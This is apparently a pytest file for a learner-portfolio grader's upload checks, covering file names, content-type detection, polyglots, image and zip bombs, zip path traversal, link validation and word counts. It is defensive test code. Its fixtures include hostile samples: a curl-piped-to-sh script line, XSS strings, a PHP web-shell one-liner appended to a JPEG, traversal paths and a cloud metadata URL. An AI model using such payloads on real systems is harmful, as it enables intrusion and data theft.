"""Portfolio uploads (`grader.intake.artifacts`): a test per kind of bad input, and what learners really send.

Every fixture file is made here: images with Pillow, PDFs with pypdf, zips with zipfile, and the hostile
ones (programs, polyglots, bombs) byte by byte.
"""

from __future__ import annotations

import hashlib
import io
import socket
import struct
import time
import tracemalloc
import unicodedata
import zipfile
import zlib

import pytest
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter

from grader.catalog.schema import Artifact, ArtifactType, LinkSpec, Statement
from grader.errors import InvalidInput, PayloadTooLarge, UnsafeArchive
from grader.intake.archives import ArchivePolicy
from grader.intake.artifacts import (
    BIDI_CONTROLS,
    MAX_IMAGE_PIXELS,
    SizeGuard,
    StoredFile,
    check_file,
    check_file_count,
    check_link,
    check_statement,
    checks_as_evidence,
    count_words,
    detect_type,
    portfolio_checks,
    read_upload,
    safe_file_name,
)
from rubrics.criteria import TestsPassed
from rubrics.evidence import Evidence

MIB = 1024 * 1024
ANY_TYPE = ["pdf", "png", "jpeg", "text", "markdown", "zip"]


# ---------------------------------------------------------------------------------------------------------
# Fixture files


def png(width: int = 40, height: int = 30, *, text: dict[str, str] | None = None) -> bytes:
    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG declaring `width` x `height` pixels in a few dozen bytes: the shape of a decompression bomb."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + png_chunk(b"IEND", b"")
    )


def jpeg(width: int = 64, height: int = 48, **options: object) -> bytes:
    buffer = io.BytesIO()
    # Noise, so that a progressive save really writes several scans.
    Image.effect_noise((width, height), 64).convert("RGB").save(buffer, "JPEG", **options)
    return buffer.getvalue()


def jpeg_with_thumbnail() -> bytes:
    """A JPEG whose EXIF segment carries a whole thumbnail JPEG, with its own end marker, as cameras write."""
    thumbnail = jpeg(16, 12)
    body = b"Exif\0\0" + b"MM\0*\0\0\0\x08\0\0" + thumbnail
    app1 = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    main = jpeg(80, 60)
    return main[:2] + app1 + main[2:]


def pdf(pages: int = 3, *, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def make_zip(entries: dict[str, bytes], *, modes: dict[str, int] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.create_system = 3
            info.external_attr = (modes or {}).get(name, 0o100644) << 16
            archive.writestr(info, content)
    return buffer.getvalue()


def mark_encrypted(data: bytes) -> bytes:
    """Set the "encrypted" flag on every entry (zipfile writes no encrypted archives of its own)."""
    out = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(signature)
        while start >= 0:
            out[start + flag_at] |= 0x1
            start = out.find(signature, start + 4)
    return bytes(out)


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 120
PE = b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200
MACHO = b"\xcf\xfa\xed\xfe" + b"\0" * 120
SCRIPT = b"#!/bin/sh\ncurl https://example.com/x | sh\n"


def refusal(excinfo: pytest.ExceptionInfo[InvalidInput]) -> tuple[str, str]:
    return excinfo.value.details["rule"], excinfo.value.message


# ---------------------------------------------------------------------------------------------------------
# File names


def test_a_plain_name_comes_back_normalised_to_nfc() -> None:
    decomposed = unicodedata.normalize("NFD", "café résumé.pdf")
    assert decomposed != "café résumé.pdf"
    assert safe_file_name(decomposed) == "café résumé.pdf"
    assert safe_file_name("Design note (final) v2.PDF") == "Design note (final) v2.PDF"


def test_a_name_with_a_slash_is_refused_saying_to_upload_the_file_itself() -> None:
    with pytest.raises(InvalidInput) as excinfo:
        safe_file_name("a/b.png", field="design")
    assert excinfo.value.message == (
        'the file name "a/b.png" holds a slash: upload the file itself, not a folder path'
    )
    assert excinfo.value.details == {"field": "design", "rule": "bad_name"}


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("..\\..\\boot.ini", "holds a backslash"),
        ("../../etc/passwd", "holds a slash"),
        ("..", "names a folder, not a file"),
        (".", "names a folder, not a file"),
        ("...", "is only dots"),
        ("", "has no name"),
        ("   ", "has no name"),
    ],
)
def test_names_that_are_paths_or_nothing_are_refused(name: str, words: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        safe_file_name(name)
    assert words in excinfo.value.message


def test_a_name_with_a_nul_is_refused() -> None:
    with pytest.raises(InvalidInput, match="holds a NUL character"):
        safe_file_name("photo.png\0.exe")


@pytest.mark.parametrize("control", ["\n", "\r", "\t", "\x1b", "\x7f", "\x85"])
def test_a_name_with_a_control_character_is_refused_naming_it(control: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        safe_file_name(f"report{control}.pdf")
    rule, message = refusal(excinfo)
    assert rule == "control_chars"
    assert f"U+{ord(control):04X}" in message
    assert control not in message


@pytest.mark.parametrize("bidi", sorted(BIDI_CONTROLS))
def test_a_name_with_a_bidirectional_control_is_refused_without_echoing_it(bidi: str) -> None:
    # "invoice<RLO>gpj.exe" displays as "invoiceexe.jpg".
    with pytest.raises(InvalidInput) as excinfo:
        safe_file_name(f"invoice{bidi}gpj.exe")
    rule, message = refusal(excinfo)
    assert rule == "bidi_chars"
    assert unicodedata.name(bidi) in message
    assert bidi not in message
    assert "rename the file without it" in message


def test_every_listed_bidirectional_control_is_in_the_set() -> None:
    listed = [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C]
    assert {chr(code) for code in listed} == BIDI_CONTROLS


def test_a_name_of_200_characters_is_accepted_and_201_refused() -> None:
    assert safe_file_name("a" * 196 + ".pdf") == "a" * 196 + ".pdf"
    with pytest.raises(InvalidInput, match="is 201 characters long; the most is 200"):
        safe_file_name("a" * 197 + ".pdf")


@pytest.mark.parametrize("name", ["CON", "con.txt", "Com1.png", "LPT9.pdf", "NUL", "aux.tar.gz", "CON .pdf"])
def test_windows_device_names_are_refused_whatever_the_extension(name: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        safe_file_name(name)
    assert refusal(excinfo)[0] == "reserved_name"


@pytest.mark.parametrize("name", ["CONTRACT.pdf", "icon.png", "console.md", "com10.txt", "nul-hypothesis.md"])
def test_names_that_only_start_like_a_device_are_fine(name: str) -> None:
    assert safe_file_name(name) == name


# ---------------------------------------------------------------------------------------------------------
# Types by content


def test_a_png_is_decoded_and_its_dimensions_reported() -> None:
    found = detect_type(png(40, 30))
    assert (found.kind, found.width, found.height) == ("png", 40, 30)


def test_a_jpeg_progressive_or_with_a_thumbnail_in_exif_is_accepted() -> None:
    assert detect_type(jpeg(64, 48)).kind == "jpeg"
    progressive = jpeg(300, 200, progressive=True)
    assert progressive.count(b"\xff\xda") > 1  # several scans
    assert (detect_type(progressive).width, detect_type(progressive).height) == (300, 200)
    with_thumbnail = jpeg_with_thumbnail()
    assert with_thumbnail.count(b"\xff\xd9") == 2  # the thumbnail's end marker comes first
    assert detect_type(with_thumbnail).width == 80


def test_a_pdf_is_parsed_and_its_pages_counted() -> None:
    assert detect_type(pdf(3)).pages == 3
    assert detect_type(pdf(1)).label == "a PDF of 1 page"


def test_a_zip_is_checked_entry_by_entry_and_counted() -> None:
    data = make_zip({"src/a.py": b"print(1)\n" * 50, "README.md": b"# notes\n"})
    found = detect_type(data)
    assert (found.kind, found.members, found.unpacked_bytes) == ("zip", 2, 450 + 8)


def test_utf8_text_is_text_with_or_without_a_bom() -> None:
    assert detect_type(b"Notes on the design\nsecond line\n").kind == "text"
    assert detect_type("\ufeffMerci, ça marche\n".encode()).kind == "text"


def test_a_text_that_happens_to_start_with_mz_is_text() -> None:
    assert detect_type(b"MZ stands for the initials of Mark Zbikowski.\n").kind == "text"


@pytest.mark.parametrize(
    ("program", "words"),
    [
        (ELF, "an ELF program"),
        (PE, "a Windows program"),
        (MACHO, "a Mach-O program"),
        (SCRIPT, "a script"),
        (b"\xef\xbb\xbf#!/usr/bin/env python\n", "a script"),
        (b"MZ" + bytes(range(256)), "a DOS or Windows program"),
    ],
)
def test_an_executable_named_png_is_refused_naming_what_it_is(program: bytes, words: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_file(["png"], 10 * MIB, "screenshot.png", program, field="screens", title="Screenshots")
    rule, message = refusal(excinfo)
    assert rule == "executable"
    assert message.startswith('the screenshots "screenshot.png" is ')
    assert words in message
    assert "though its name ends in .png" in message
    assert excinfo.value.details["field"] == "screens"


def test_an_executable_is_refused_even_where_every_type_is_allowed() -> None:
    with pytest.raises(InvalidInput, match="programs and scripts are never accepted"):
        check_file(ANY_TYPE, 10 * MIB, "notes.txt", ELF)


@pytest.mark.parametrize(
    "page",
    [
        b"<!DOCTYPE html><html><body><h1>My CV</h1></body></html>",
        b"\n\n  <HTML><script>alert(document.cookie)</script>",
        b"%!PS-fake\n<script src=https://evil.example/x.js></script>",
        ("<!-- " + "x" * 3000 + " -->\n<html></html>").encode(),
    ],
)
def test_an_html_file_named_pdf_is_refused_as_a_web_page(page: bytes) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_file(["pdf"], 10 * MIB, "design.pdf", page, title="Design note")
    rule, message = refusal(excinfo)
    assert rule == "html"
    assert message.startswith('the design note "design.pdf" is an HTML page, though its name ends in .pdf')
    assert "export it as a PDF" in message


def test_markdown_with_a_script_near_the_start_is_refused() -> None:
    note = b"# Notes\n\n<script>fetch('/api/v1/tokens')</script>\n"
    with pytest.raises(InvalidInput) as excinfo:
        check_file(["markdown"], MIB, "notes.md", note)
    assert refusal(excinfo)[0] == "html"


@pytest.mark.parametrize(
    "svg",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',  # no script: still refused
        ("<?xml version='1.0'?><!-- " + "c" * 5000 + " --><SVG></SVG>").encode(),
    ],
)
def test_an_svg_with_script_or_without_is_refused(svg: bytes) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_file(ANY_TYPE, MIB, "diagram.png", svg, title="Architecture diagram")
    rule, message = refusal(excinfo)
    assert rule == "svg"
    assert "SVG files can carry scripts" in message
    assert "export the picture as PNG" in message


def test_a_png_carrying_html_in_a_text_chunk_is_refused_as_both() -> None:
    data = png(text={"Comment": "<html><script>alert(1)</script></html>"})
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(data)
    rule, message = refusal(excinfo)
    assert rule == "html"
    assert "both a PNG image and an HTML page" in message


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (
            png() + make_zip({"evil.class": b"\xca\xfe\xba\xbe"}),
            "both a PNG image and a ZIP archive",
        ),  # GIFAR
        (jpeg() + make_zip({"x.html": b"<p>hi</p>"}), "both a JPEG image and a ZIP archive"),
        (pdf() + make_zip({"a.txt": b"a"}), "both a PDF and a ZIP archive"),
        (b"\x89PNG\r\n\x1a\n" + make_zip({"a.txt": b"a"}), "both a PNG image and a ZIP archive"),
        (png(text={"Comment": "c" * 2000}) + b"\n%PDF-1.7\n", "after the end of a PNG image"),
        (png()[:60] + b"%PDF-1.4\n" + png()[60:], "both a PNG image and a PDF (a PDF header at byte 60"),
        (b"   \n" + pdf(), "a PDF that does not start at its first byte"),
        (
            make_zip({"a.txt": b"a"})[:30] + b"%PDF-1.4 " + make_zip({"a.txt": b"a"})[30:],
            "both a ZIP archive and a PDF",
        ),
        (b"just notes\n" + make_zip({"a.txt": b"a"}), "both a text file and a ZIP archive"),
        (png() + b"hidden payload", "carries 14 bytes of data after the end of a PNG image"),
        (jpeg() + b"<?php system($_GET['c']); ?>", "after the end of a JPEG image"),
    ],
)
def test_a_polyglot_file_is_refused(data: bytes, words: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_file(ANY_TYPE, 10 * MIB, "file.png", data)
    rule, message = refusal(excinfo)
    assert rule == "polyglot"
    assert words in message


def test_zero_padding_after_an_image_is_not_a_polyglot() -> None:
    assert detect_type(png() + b"\0" * 16).kind == "png"


def test_a_decompression_bomb_is_refused_before_its_pixels_are_decoded() -> None:
    bomb = png_header_only(100_000, 100_000)  # 10 gigapixels in about a hundred bytes
    assert len(bomb) < 200
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(InvalidInput) as excinfo:
            detect_type(bomb)
        elapsed = time.monotonic() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert refusal(excinfo)[0] == "too_many_pixels"
    assert elapsed < 1.0
    assert peak < 10 * MIB


def test_an_image_just_over_our_pixel_bound_is_refused_naming_its_size() -> None:
    width = 8000
    height = MAX_IMAGE_PIXELS // width + 1
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(png_header_only(width, height))
    rule, message = refusal(excinfo)
    assert rule == "too_many_pixels"
    assert f"8,000 \u00d7 {height:,} pixels" in message


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (png()[:-20], "a PNG image"),
        (png()[:45] + b"\0" * 8 + png()[53:], "a PNG image"),
        (jpeg()[: len(jpeg()) // 2], "a JPEG image"),
        (b"%PDF-1.7\nthis is not really a PDF\n", "a PDF"),
    ],
)
def test_a_damaged_file_is_refused_as_damaged(data: bytes, kind: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(data)
    rule, message = refusal(excinfo)
    assert rule == "damaged"
    assert f"looks like {kind} but is damaged" in message


def test_a_password_protected_pdf_is_refused() -> None:
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(pdf(2, password="secret"))
    assert refusal(excinfo) == (
        "encrypted",
        "the file is a password-protected PDF: save it again without a password",
    )


@pytest.mark.parametrize(
    ("entries", "rule"),
    [
        ({"/etc/passwd": b"root"}, "traversal"),
        ({"../../.bashrc": b"evil"}, "traversal"),
        ({"C:/Windows/x.dll": b"x"}, "traversal"),
        ({"project/.git/config": b"[core]\nfsmonitor = sh"}, "git_dir"),
    ],
)
def test_a_zip_with_an_escaping_member_path_is_refused(entries: dict[str, bytes], rule: str) -> None:
    with pytest.raises(UnsafeArchive) as excinfo:
        check_file(["zip"], 10 * MIB, "code.zip", make_zip(entries), field="code", title="Source code")
    assert excinfo.value.details["rule"] == rule
    assert excinfo.value.details["field"] == "code"
    assert excinfo.value.message.startswith('the source code "code.zip" is not a safe ZIP archive: ')


def test_a_zip_with_a_symbolic_link_is_refused() -> None:
    data = make_zip({"link": b"/etc/passwd"}, modes={"link": 0o120777})
    with pytest.raises(UnsafeArchive) as excinfo:
        detect_type(data)
    assert excinfo.value.details["rule"] == "link"


def test_a_zip_with_more_entries_than_the_policy_is_refused() -> None:
    data = make_zip({f"f{i}.txt": b"x" for i in range(4)})
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(data, zip_policy=ArchivePolicy(max_entries=3))
    assert refusal(excinfo) == ("too_many_entries", "the file holds 4 entries; the most is 3")


def test_a_zip_declaring_more_than_the_total_size_is_refused_before_unpacking() -> None:
    data = make_zip({"a.txt": b"a" * 3000, "b.txt": b"b" * 3000})
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(data, zip_policy=ArchivePolicy(max_total_bytes=4096))
    rule, message = refusal(excinfo)
    assert rule == "too_large"
    assert message == "the file unpacks to 5.9 KB; the most is 4 KB"


def test_a_zip_bomb_is_refused_by_its_ratio() -> None:
    data = make_zip({"zeros.bin": b"\0" * (3 * MIB)})
    assert len(data) < 10_000
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(data)
    assert refusal(excinfo)[0] == "ratio"


def test_an_encrypted_or_empty_or_corrupt_zip_is_refused() -> None:
    with pytest.raises(InvalidInput, match="password-protected ZIP"):
        detect_type(mark_encrypted(make_zip({"a.txt": b"a"})))
    with pytest.raises(InvalidInput, match="empty ZIP archive"):
        detect_type(make_zip({}))
    good = make_zip({"a.txt": b"hello world " * 100})
    data_at = 30 + len("a.txt")
    corrupt = good[:data_at] + bytes([good[data_at] ^ 0xFF]) + good[data_at + 1 :]
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(corrupt)
    assert refusal(excinfo)[0] == "damaged"


@pytest.mark.parametrize(
    ("data", "rule", "words"),
    [
        (b"GIF89a" + b"\0" * 40, "unsupported", "is a GIF image, which no slot takes"),
        ("Résumé: très bien".encode("latin-1"), "not_utf8", "is not UTF-8 text"),
        ("Notes".encode("utf-16"), "unsupported", "holds binary data"),
        (b"notes\0with a NUL", "unsupported", "holds binary data"),
        (b"\x1b[31mred\x1b[0m" * 40, "unsupported", "control characters"),
        (b"", "empty", "is empty (0 bytes)"),
    ],
)
def test_what_is_not_one_of_our_types_is_refused_saying_what_it_is(
    data: bytes, rule: str, words: str
) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        detect_type(data)
    assert refusal(excinfo)[0] == rule
    assert words in refusal(excinfo)[1]


def test_the_type_comes_from_the_content_never_from_the_name() -> None:
    assert check_file(["png"], MIB, "holiday.pdf", png()).kind == "png"
    assert check_file(["pdf"], MIB, "scan.jpeg", pdf(1)).kind == "pdf"


# ---------------------------------------------------------------------------------------------------------
# Files for a slot


def test_an_accepted_file_carries_its_digest_size_type_and_mime() -> None:
    data = pdf(2)
    checked = check_file(["pdf"], 10 * MIB, "design.pdf", data, field="design", title="Design note")
    assert (checked.name, checked.size, checked.kind, checked.mime) == (
        "design.pdf",
        len(data),
        "pdf",
        "application/pdf",
    )
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.stored().pages == 2


def test_a_text_file_counts_as_markdown_where_the_slot_takes_markdown() -> None:
    note = b"# Reflection\n\nWhat I learned.\n"
    as_markdown = check_file(["markdown"], MIB, "notes.txt", note)
    assert (as_markdown.kind, as_markdown.mime) == ("markdown", "text/markdown; charset=utf-8")
    assert check_file(["text"], MIB, "notes.md", note).kind == "text"
    with pytest.raises(InvalidInput) as excinfo:
        check_file(["pdf"], MIB, "notes.md", note, title="Design note")
    assert refusal(excinfo) == (
        "type_not_allowed",
        'the design note "notes.md" is a text file of 3 lines; this slot takes a PDF',
    )


def test_a_type_the_slot_does_not_take_is_refused_listing_what_it_takes() -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_file(["pdf", "markdown"], MIB, "photo.png", png(40, 30), title="Design note")
    assert excinfo.value.message == (
        'the design note "photo.png" is a PNG image of 40 \u00d7 30 pixels; '
        "this slot takes a PDF or a Markdown file"
    )
    assert excinfo.value.details["detected"] == "png"


def test_an_oversized_file_is_refused_saying_both_sizes_in_megabytes() -> None:
    max_bytes = int(10 * MIB)
    data = b"a" * int(12.4 * MIB)
    with pytest.raises(PayloadTooLarge) as excinfo:
        check_file(["text"], max_bytes, "notes.pdf", data, field="design", title="Design note")
    assert excinfo.value.message == 'the design note "notes.pdf" is 12.4 MB; the most is 10 MB'
    assert excinfo.value.http_status == 413
    assert excinfo.value.details["limit"] == max_bytes


def test_a_file_of_exactly_the_limit_passes_and_one_byte_more_is_said_in_bytes() -> None:
    assert check_file(["text"], 1024, "a.txt", b"a" * 1024).size == 1024
    with pytest.raises(PayloadTooLarge) as excinfo:
        check_file(["text"], 1024, "a.txt", b"a" * 1025)
    assert excinfo.value.message == 'the file "a.txt" is 1,025 bytes; the most is 1,024 bytes'


def test_an_unsafe_name_is_refused_before_the_content_is_judged() -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_file(["png"], MIB, "../../escape.png", png())
    assert excinfo.value.details["rule"] == "bad_name"


def test_too_many_files_for_a_slot_are_refused() -> None:
    check_file_count(2, 2, field="screens", title="Screenshots")
    with pytest.raises(InvalidInput) as excinfo:
        check_file_count(3, 2, field="screens", title="Screenshots")
    assert excinfo.value.message == "3 files were handed in for the screenshots; the most is 2"
    assert excinfo.value.details == {"field": "screens", "rule": "too_many_files", "limit": 2, "count": 3}


class EndlessUpload(io.RawIOBase):
    """An upload that would go on for `total` bytes, counting what was actually taken from it."""

    def __init__(self, total: int) -> None:
        self.total = total
        self.served = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview | bytearray) -> int:  # type: ignore[override]
        count = min(len(buffer), self.total - self.served)
        buffer[:count] = b"x" * count
        self.served += count
        return count


def test_an_oversized_upload_is_refused_before_it_is_read_whole() -> None:
    upload = EndlessUpload(500 * MIB)
    with pytest.raises(PayloadTooLarge) as excinfo:
        read_upload(upload, 2 * MIB, field="design", title="Design note", name="huge.pdf")
    assert upload.served == 2 * MIB + 1
    assert excinfo.value.message == 'the design note "huge.pdf" is larger than 2 MB, the most it may be'
    assert excinfo.value.details["field"] == "design"


def test_an_upload_within_the_limit_is_read_in_full() -> None:
    data = pdf(2)
    assert read_upload(io.BytesIO(data), len(data)) == data


def test_the_guard_is_a_file_that_any_reader_can_stream_from() -> None:
    data = png(400, 300)
    digest = hashlib.sha256()
    with io.BufferedReader(SizeGuard(io.BytesIO(data), MIB)) as stream:
        while chunk := stream.read(1000):
            digest.update(chunk)
    assert digest.hexdigest() == hashlib.sha256(data).hexdigest()
    with pytest.raises(PayloadTooLarge), io.BufferedReader(SizeGuard(io.BytesIO(data), 100)) as small:
        small.read()


# ---------------------------------------------------------------------------------------------------------
# Links


def test_a_link_on_an_allowed_host_or_its_subdomain_is_accepted() -> None:
    link = check_link("https://github.com/learner/project", ["https"], ["github.com"])
    assert (link.url, link.host, link.private) == ("https://github.com/learner/project", "github.com", False)
    assert check_link("https://learner.github.io/", ["https"], ["github.io"]).host == "learner.github.io"


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com.evil.example/learner",
        "https://evilgithub.com/",
        "https://github.co/",
        "https://10.0.0.1/",
    ],
)
def test_a_host_that_only_looks_allowed_is_refused(url: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_link(url, ["https"], ["github.com"], field="repo", title="Repository")
    rule, message = refusal(excinfo)
    assert rule == "host_not_allowed"
    assert "link to github.com (or a subdomain)" in message
    assert excinfo.value.details["field"] == "repo"


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("javascript:alert(document.cookie)", "scheme"),
        ("data:text/html,<script>alert(1)</script>", "scheme"),
        ("http://example.com/", "scheme"),
        ("ftp://example.com/file", "scheme"),
        ("example.com/portfolio", "scheme"),
        ("https:example.com", "malformed"),
        ("https://user:hunter2@example.com/", "userinfo"),
        ("https://token@example.com/", "userinfo"),
        ("https://exa mple.com/", "spaces"),
        ("https://example.com/a\tb", "control_chars"),
        ("https://example.com/\x00", "control_chars"),
        ("https://evil.example\u202e/moc.elgoog", "invisible_chars"),
        ("https://exa\u200bmple.com/", "invisible_chars"),
        ("https://github.com\\@evil.example/", "backslash"),
        ("https://github.com%2eevil.example/", "host"),
        ("https:///path", "host"),
        ("https://example.com:99999/", "malformed"),
        ("https://[::1/", "malformed"),
        ("https://999.1.1.1/", "host"),
        ("https://bad_label.example/", "host"),
        ("https://xn--zz.example/", "host"),
        ("https://example.com/" + "a" * 2000, "too_long"),
        ("", "empty"),
        ("   ", "empty"),
    ],
)
def test_a_malformed_link_is_refused(url: str, rule: str) -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_link(url, ["https"], [])
    assert refusal(excinfo)[0] == rule


def test_a_link_of_2000_characters_is_accepted() -> None:
    url = "https://example.com/" + "a" * (2000 - len("https://example.com/"))
    assert check_link(url, ["https"], []).url == url


def test_http_is_accepted_where_the_slot_allows_it() -> None:
    assert check_link("http://example.org/", ["https", "http"], []).scheme == "http"


def test_an_international_host_is_stored_as_punycode_and_shown_decoded() -> None:
    link = check_link("https://Bücher.example/ä?q=ü#teil", ["https"], [])
    assert link.host == "xn--bcher-kva.example"
    assert link.shown_host == "bücher.example"
    assert link.url == "https://xn--bcher-kva.example/%C3%A4?q=%C3%BC#teil"
    assert check_link("https://xn--bcher-kva.example/", ["https"], []).shown_host == "bücher.example"
    allowed = check_link("https://shop.bücher.example/", ["https"], ["xn--bcher-kva.example"])
    assert allowed.shown_host == "shop.bücher.example"


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("https://127.0.0.1/admin", "a loopback address"),
        ("https://2130706433/", "a loopback address"),  # decimal
        ("https://0x7f.1/", "a loopback address"),  # hex shorthand
        ("https://0177.0.0.01/", "a loopback address"),  # octal
        ("https://[::1]:8080/", "a loopback address"),
        ("https://[::ffff:127.0.0.1]/", "a loopback address inside an IPv6 address"),
        ("https://[64:ff9b::a00:1]/", "a private address inside an IPv6 address"),
        ("https://10.1.2.3/", "a private address"),
        ("https://192.168.0.1/", "a private address"),
        ("https://[fd00::1]/", "a private address"),
        ("https://169.254.169.254/latest/meta-data/", "a link-local address"),
        ("https://[fe80::1]/", "a link-local address"),
        ("https://0.0.0.0/", "an unspecified address"),
        ("https://100.64.0.1/", "a reserved address"),
        ("https://224.0.0.1/", "a multicast address"),
        ("https://localhost:5000/", "a loopback name"),
        ("https://api.localhost/", "a loopback name"),
        ("https://printer.local/", "a local network name (.local)"),
        ("https://db.internal/", "a local network name (.internal)"),
        ("https://fileserver/", "a name without a dot"),
    ],
)
def test_a_link_to_a_private_or_loopback_address_is_accepted_as_text_with_a_flag(
    url: str, reason: str
) -> None:
    link = check_link(url, ["https"], [])
    assert link.private is True
    assert link.private_reason.startswith(reason)


def test_a_public_address_is_not_flagged() -> None:
    for url in ("https://8.8.8.8/", "https://[2606:4700::1111]/", "https://example.com/"):
        assert check_link(url, ["https"], []).private is False


def test_a_link_is_never_fetched_nor_its_name_resolved(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the network was used")

    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "create_connection"):
        monkeypatch.setattr(socket, name, no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    assert check_link("https://localhost/", ["https"], []).private is True
    assert check_link("https://portfolio.example.org/", ["https"], []).private is False


def test_default_ports_are_dropped_and_others_kept() -> None:
    assert check_link("https://example.com:443/p", ["https"], []).url == "https://example.com/p"
    assert check_link("https://example.com:8443/p", ["https"], []).url == "https://example.com:8443/p"


# ---------------------------------------------------------------------------------------------------------
# Statements


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Hello world", 2),
        ("don't stop: well-known facts, 3.14 and e.g. yes/no \u2014 done", 9),
        ("Привет, мир!", 2),
        ("हिन्दी भाषा बहुत सुंदर है", 5),  # combining vowel signs stay inside their words
        ("안녕하세요 세계", 2),  # Korean puts spaces between words
        ("我喜欢学习编程", 7),  # one word per Chinese character
        ("日本語のテキスト。", 8),
        ("Python3で書く", 4),
        ("one\u200btwo", 2),  # a zero-width space separates words
        ("\u2014 \U0001f600 !!", 0),
        ("", 0),
    ],
)
def test_words_are_counted_in_any_script(text: str, words: int) -> None:
    assert count_words(text) == words


def test_an_empty_statement_is_refused_when_required() -> None:
    for text in ("", "   \n\t  "):
        with pytest.raises(InvalidInput) as excinfo:
            check_statement(text, 50, 500, field="reflection", title="Reflection")
        assert refusal(excinfo) == ("empty", "the reflection is empty: write at least 50 words")
        assert excinfo.value.details["field"] == "reflection"


def test_an_empty_optional_statement_is_accepted_as_nothing() -> None:
    assert check_statement("  ", 10, 100, required=False).words == 0


def test_a_statement_under_or_over_its_limits_is_refused_with_the_counts() -> None:
    with pytest.raises(InvalidInput) as excinfo:
        check_statement("word " * 12, 50, 500, title="Reflection")
    assert refusal(excinfo) == ("too_few_words", "the reflection has 12 words; it needs at least 50")
    with pytest.raises(InvalidInput) as excinfo:
        check_statement("word " * 501, 0, 500, title="Reflection")
    assert refusal(excinfo) == ("too_many_words", "the reflection has 501 words; the most is 500")
    assert check_statement("word " * 500, 0, 500).words == 500


def test_a_statement_is_normalised_and_refused_with_a_nul() -> None:
    checked = check_statement("  First line\r\nSecond line\r\n  ", 1, 10)
    assert (checked.text, checked.words) == ("First line\nSecond line", 4)
    with pytest.raises(InvalidInput, match="control character"):
        check_statement("text with a \x00 inside", 0, 10)


# ---------------------------------------------------------------------------------------------------------
# Automatic checks


DESIGN = Artifact(id="design", title="Design note", types=[ArtifactType.PDF], max_mb=10)
SCREENS = Artifact(
    id="screens", title="Screenshots", types=[ArtifactType.PNG, ArtifactType.JPEG], max_mb=2, max_files=2
)
EXTRA = Artifact(id="extra", title="Extra material", types=[ArtifactType.ZIP], required=False)
SITE = LinkSpec(id="site", title="Portfolio site", hosts=[])
REFLECTION = Statement(id="reflection", title="Reflection", min_words=5, max_words=20)


def stored(
    kind: str, size: int, *, pages: int | None = None, width: int | None = None, height: int | None = None
) -> StoredFile:
    return StoredFile(f"file.{kind}", size, "0" * 64, kind, pages=pages, width=width, height=height)


def run_checks(
    files: dict[str, list[StoredFile]], links: dict[str, str], statements: dict[str, str]
) -> dict[str, tuple[bool, str]]:
    results = portfolio_checks(
        file_slots=[DESIGN, SCREENS, EXTRA],
        files=files,
        link_slots=[SITE],
        links=links,
        statement_slots=[REFLECTION],
        statements=statements,
    )
